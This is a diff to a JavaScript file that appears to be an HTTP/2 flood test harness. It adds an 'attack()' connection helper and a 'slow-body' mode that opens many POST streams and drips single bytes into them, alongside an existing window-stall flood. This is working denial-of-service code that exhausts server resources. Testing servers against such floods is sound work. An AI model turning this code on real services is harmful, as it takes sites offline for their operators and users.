@@ -69,6 +69,16 @@ async function floodConnection(make, until) {
   tls.destroy();
 }
 
+/** An HTTP/2 connection of the attacker that has said its preface; null after a pause when there is none. */
+async function attack() {
+  const tls = await tunnel(attacker, 'h2').catch(() => null);
+  if (!tls) { await sleep(5); return null; }
+  tls.on('error', () => {});
+  tls.resume();
+  tls.write(preface);
+  return tls;
+}
+
 const floods = {
   ...Object.fromEntries(Object.entries(perConnection).map(([name, make]) => [name, async (until) => {
     while (Date.now() < until) await Promise.all(Array.from({ length: 4 }, () => floodConnection(make, until).catch(() => sleep(5))));
@@ -77,14 +87,24 @@ const floods = {
   'window-stall': async (until) => {
     const stall = frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]));
     while (Date.now() < until) {
-      const tls = await tunnel(attacker, 'h2').catch(() => null);
-      if (!tls) { await sleep(5); continue; }
-      tls.on('error', () => {});
-      tls.resume();
-      tls.write(preface);
+      const tls = await attack();
+      if (!tls) continue;
       tls.write(stall);
       for (let n = 1; n < 200; n += 2) tls.write(frame(HEADERS, 5, n, block()));
       await sleep(100);
+    }
+  },
+  // Bodies of which a byte comes now and then, on every stream that a connection may have.
+  'slow-body': async (until) => {
+    while (Date.now() < until) {
+      const tls = await attack();
+      if (!tls) continue;
+      for (let n = 1; n < 256; n += 2) tls.write(frame(HEADERS, 4, n, block('POST')));
+      while (Date.now() < until && !tls.destroyed) {
+        for (let n = 1; n < 256; n += 2) tls.write(frame(0, 0, n, Buffer.from('x')));
+        await sleep(20);
+      }
+      tls.destroy();
     }
   },
   'slow-heads': async (until) => {
